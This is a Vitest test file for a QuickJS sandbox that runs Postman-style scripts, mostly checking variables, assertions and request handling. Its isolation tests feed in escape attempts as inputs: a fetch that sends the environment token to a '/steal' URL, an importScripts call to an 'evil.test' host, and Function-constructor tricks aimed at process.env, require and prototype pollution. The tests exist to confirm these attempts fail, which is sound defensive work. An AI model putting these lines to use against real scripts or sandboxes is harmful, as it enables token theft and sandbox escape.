/**
 * The script corpus of issue 15: Postman-style scripts run unmodified in the QuickJS sandbox,
 * with exact expected results; an endless loop; escape attempts.
 */
import { describe, expect, test } from 'vitest';
import { nodeSandbox } from '../../../src/services/scripts/node-sandbox.ts';
import {
  emptyScopes,
  type ScriptHost,
  type ScriptRequest,
  type ScriptResponse,
  type ScriptRunInput,
} from '../../../src/core/scripts/types.ts';

const request: ScriptRequest = {
  url: '{{base}}/login?x=1',
  method: 'POST',
  headers: [{ key: 'Accept', value: 'application/json' }],
  body: { mode: 'raw', raw: '{"user":"emma"}' },
};
const response: ScriptResponse = {
  code: 200,
  status: 'OK',
  headers: [
    ['Content-Type', 'application/json'],
    ['Set-Cookie', 'a=1'],
  ],
  responseTime: 42,
  responseSize: 47,
  body: '{"access_token":"tok-123","user":{"id":7,"roles":["admin"]}}',
};
const info = { iteration: 0, iterationCount: 1, requestName: 'Login', requestId: 'r1' };

function input(code: string, post = true, extra: Partial<ScriptRunInput> = {}): ScriptRunInput {
  return {
    code,
    label: 'test',
    info: { ...info, eventName: post ? 'test' : 'prerequest' },
    scopes: emptyScopes(),
    request,
    response: post ? response : null,
    ...extra,
  };
}
const noNetwork: ScriptHost = { sendRequest: () => Promise.reject(new Error('no network in this test')) };

async function run(code: string, post = true, host: ScriptHost = noNetwork, extra: Partial<ScriptRunInput> = {}) {
  return (await nodeSandbox()).run(input(code, post, extra), host);
}

describe('Postman scripts run unmodified', () => {
  test('set variables in every scope; get, has, unset; pm.variables precedence', async () => {
    const r = await run(
      `pm.environment.set('token', 'abc');
       pm.globals.set('n', 5);
       pm.collectionVariables.set('obj', { a: 1 });
       pm.variables.set('local', 'L');
       pm.environment.set('gone', 'x');
       pm.environment.unset('gone');
       console.log(pm.environment.get('token'), pm.environment.has('gone'), pm.variables.get('n'), pm.variables.get('local'));
       pm.environment.set('n', 'env wins');
       console.log(pm.variables.get('n'), pm.variables.replaceIn('{{token}}-{{missing}}'));`,
      false,
      noNetwork,
      { scopes: { ...emptyScopes(), iterationData: { row: '1' } } },
    );
    expect(r.error).toBeNull();
    expect(r.scopes).toEqual({
      globals: { n: '5' },
      collectionVariables: { obj: '{"a":1}' },
      environment: { token: 'abc', n: 'env wins' },
      iterationData: { row: '1' },
      locals: { local: 'L' },
    });
    expect(r.console).toEqual([
      { level: 'log', text: 'abc false 5 L' },
      { level: 'log', text: 'env wins abc-{{missing}}' },
    ]);
  });

  test('chain a token: read the response JSON into the environment', async () => {
    const r = await run(
      `var data = pm.response.json();
       pm.environment.set("token", data.access_token);
       pm.test("has a token", function () { pm.expect(data.access_token).to.be.a("string").and.not.empty; });`,
    );
    expect(r.scopes.environment).toEqual({ token: 'tok-123' });
    expect(r.tests).toEqual([{ name: 'has a token', status: 'passed' }]);
    expect(r.error).toBeNull();
  });

  test('pm.expect deep equal (chai BDD) passes and fails with chai’s message', async () => {
    const r = await run(
      `pm.test("user", () => pm.expect(pm.response.json().user).to.deep.equal({ id: 7, roles: ["admin"] }));
       pm.test("user wrong", () => pm.expect(pm.response.json().user).to.eql({ id: 8, roles: ["admin"] }));
       pm.test("status", () => pm.response.to.have.status(201));
       pm.test("header", () => pm.response.to.have.header("content-type", "application/json"));
       pm.test("time", () => pm.expect(pm.response.responseTime).to.be.below(100));
       pm.test.skip("later");`,
    );
    expect(r.tests).toEqual([
      { name: 'user', status: 'passed' },
      {
        name: 'user wrong',
        status: 'failed',
        error: "AssertionError: expected { id: 7, roles: [ 'admin' ] } to deeply equal { id: 8, roles: [ 'admin' ] }",
      },
      {
        name: 'status',
        status: 'failed',
        error: 'AssertionError: expected response to have status code 201 but got 200',
      },
      { name: 'header', status: 'passed' },
      { name: 'time', status: 'passed' },
      { name: 'later', status: 'skipped' },
    ]);
    expect(r.error).toBeNull();
  });

  test('a failing test does not stop the script; an uncaught error does, with its line', async () => {
    const r = await run(`pm.test("one", () => { throw new TypeError("boom"); });
pm.environment.set("after", "yes");
undefinedFunction();
pm.environment.set("never", "no");`);
    expect(r.tests).toEqual([{ name: 'one', status: 'failed', error: 'TypeError: boom' }]);
    expect(r.scopes.environment).toEqual({ after: 'yes' });
    expect(r.error).toBe("ReferenceError: 'undefinedFunction' is not defined (line 3)");
  });

  test('pm.request changes in a pre-request script come back', async () => {
    const r = await run(
      `pm.request.headers.add({ key: 'X-Sig', value: 'abc' });
       pm.request.headers.upsert({ key: 'accept', value: 'text/plain' });
       pm.request.url.query.add({ key: 'y', value: '2' });
       pm.request.method = 'PUT';
       pm.request.body.raw = JSON.stringify({ user: 'zoë' });
       console.log(pm.request.url.toString(), pm.request.headers.get('ACCEPT'), pm.info.eventName, pm.info.requestName);`,
      false,
    );
    expect(r.error).toBeNull();
    expect(r.request).toEqual({
      url: '{{base}}/login?x=1&y=2',
      method: 'PUT',
      headers: [
        { key: 'Accept', value: 'text/plain' },
        { key: 'X-Sig', value: 'abc' },
      ],
      body: { mode: 'raw', raw: '{"user":"zoë"}' },
    });
    expect(r.console).toEqual([{ level: 'log', text: '{{base}}/login?x=1&y=2 text/plain prerequest Login' }]);
  });

  test('a query parameter without "=" stays without it (Postman: value null), read and written back', async () => {
    const r = await run(
      `console.log(pm.request.url.toString(), pm.request.url.query.get('flag') === null);
       pm.request.url.query.add({ key: 'y', value: '' });`,
      false,
      noNetwork,
      { request: { ...request, url: 'http://h.test/a?page=2&flag' } },
    );
    expect(r.error).toBeNull();
    expect(r.console).toEqual([{ level: 'log', text: 'http://h.test/a?page=2&flag true' }]);
    expect(r.request?.url).toBe('http://h.test/a?page=2&flag&y=');
  });

  test('pm.sendRequest: callback and promise forms go through the host', async () => {
    const seen: ScriptRequest[] = [];
    const host: ScriptHost = {
      sendRequest: (r) => {
        seen.push(r);
        return Promise.resolve({ ...response, code: 201, status: 'Created', body: '{"id":99}' });
      },
    };
    const r = await run(
      `pm.sendRequest("http://127.0.0.1:1/a", function (err, res) {
         pm.environment.set("first", res.json().id);
       });
       const res = await pm.sendRequest({ url: "http://127.0.0.1:1/b", method: "post", header: { "X-A": "1" }, body: { mode: "raw", raw: "hi" } });
       pm.test("created", () => pm.expect(res.code).to.equal(201));`,
      true,
      host,
    );
    expect(r.error).toBeNull();
    expect(seen).toEqual([
      { url: 'http://127.0.0.1:1/a', method: 'GET', headers: [], body: { mode: 'none' } },
      {
        url: 'http://127.0.0.1:1/b',
        method: 'POST',
        headers: [{ key: 'X-A', value: '1' }],
        body: { mode: 'raw', raw: 'hi' },
      },
    ]);
    expect(r.scopes.environment).toEqual({ first: '99' });
    expect(r.tests).toEqual([{ name: 'created', status: 'passed' }]);
  });

  test('pm.sendRequest failure reaches the callback as err', async () => {
    const r = await run(`pm.sendRequest("http://x/", (err, res) => console.log(err.message, res));`);
    expect(r.console).toEqual([{ level: 'log', text: 'no network in this test null' }]);
    expect(r.error).toBeNull();
  });

  test('setNextRequest hands the last value back (null = stop); no call leaves it absent; pm.cookies without a jar is empty', async () => {
    expect((await run(`postman.setNextRequest("x"); pm.execution.setNextRequest("y")`)).nextRequest).toBe('y');
    expect((await run(`pm.execution.setNextRequest(null)`)).nextRequest).toBeNull();
    const none = await run(`console.log(String(pm.cookies.get('sid')), pm.cookies.count())`);
    expect('nextRequest' in none).toBe(false);
    expect(none.console).toEqual([{ level: 'log', text: 'undefined 0' }]);
  });

  test('legacy postman.setEnvironmentVariable works; unsupported API names itself', async () => {
    const a = await run(`postman.setEnvironmentVariable("a", "1"); pm.visualizer.set("x");`);
    expect(a.scopes.environment).toEqual({ a: '1' });
    expect(a.error).toBe(
      'Error: pm.visualizer is not supported in Parley scripts (see docs/scripts.md for the supported API) (line 1)',
    );
    const b = await run(`pm.execution.skipRequest()`);
    expect(b.error).toBe(
      'Error: pm.execution.skipRequest is not supported in Parley scripts (see docs/scripts.md for the supported API) (line 1)',
    );
    const c = await run(`const _ = require('lodash');`);
    expect(c.error).toBe(
      "Error: require('lodash') is not supported in Parley scripts: no modules are available in the sandbox (line 1)",
    );
    const d = await run(`pm.iterationData.set('a', 1)`);
    expect(d.error).toBe('Error: pm.iterationData.set is not allowed: the iteration data is read-only (line 1)');
  });
});

describe('limits and isolation', () => {
  test('an endless loop ends with a clear error at the time limit', async () => {
    const r = await run(`pm.environment.set("before", "1"); console.log("start"); while (true) {}`, false, noNetwork, {
      timeLimitMs: 300,
    });
    expect(r.error).toBe('The script ran longer than 300 ms and was stopped (time limit). Look for an endless loop.');
    expect(r.scopes.environment).toEqual({ before: '1' });
    expect(r.console).toEqual([{ level: 'log', text: 'start' }]);
  });

  test('memory is limited', async () => {
    const r = await run(`let a = []; while (true) a.push({ n: a.length, s: String(a.length) });`, false, noNetwork, {
      memoryLimitBytes: 8 * 1024 * 1024,
    });
    expect(r.error).toBe('The script used more than 8 MiB and was stopped (memory limit).');
  });

  test('fetch, XMLHttpRequest, localStorage, importScripts, document do not exist', async () => {
    const r = await run(
      `pm.test("globals", () => {
         pm.expect([typeof fetch, typeof XMLHttpRequest, typeof localStorage, typeof importScripts, typeof document, typeof process, typeof window, typeof self])
           .to.eql(["undefined", "undefined", "undefined", "undefined", "undefined", "undefined", "undefined", "undefined"]);
       });
       fetch("http://127.0.0.1/steal?" + pm.environment.get("token"));`,
    );
    expect(r.tests).toEqual([{ name: 'globals', status: 'passed' }]);
    expect(r.error).toBe("ReferenceError: 'fetch' is not defined (line 5)");
    const i = await run(`importScripts("http://evil.test/x.js")`);
    expect(i.error).toBe("ReferenceError: 'importScripts' is not defined (line 1)");
    const l = await run(`localStorage.getItem("parley:v1:settings")`);
    expect(l.error).toBe("ReferenceError: 'localStorage' is not defined (line 1)");
  });

  test('globalThis.constructor and Function("return this") reach only the sandbox’s own global', async () => {
    const r = await run(
      `const g = Function("return this")();
       const viaCtor = globalThis.constructor.constructor("return this")();
       console.log(g === globalThis, viaCtor === globalThis, typeof g.fetch, typeof g.__parley, Object.getOwnPropertyNames(g).filter(k => k.startsWith('__')).join(','));
       console.log(typeof globalThis.constructor.constructor("return typeof require === 'function' ? require.toString().length > 0 : 'none'")());
       console.log(globalThis.constructor.constructor("try { return process.env } catch (e) { return e.name }")());`,
    );
    expect(r.error).toBeNull();
    expect(r.console).toEqual([
      { level: 'log', text: 'true true undefined undefined __parley_main,__parley_out' },
      { level: 'log', text: 'boolean' },
      { level: 'log', text: 'ReferenceError' },
    ]);
  });

  test('each run starts clean: nothing a script leaves on the global survives', async () => {
    await run(`globalThis.leak = 1; Object.prototype.polluted = true;`);
    const r = await run(`console.log(typeof leak, ({}).polluted)`);
    expect(r.console).toEqual([{ level: 'log', text: 'undefined undefined' }]);
  });
});
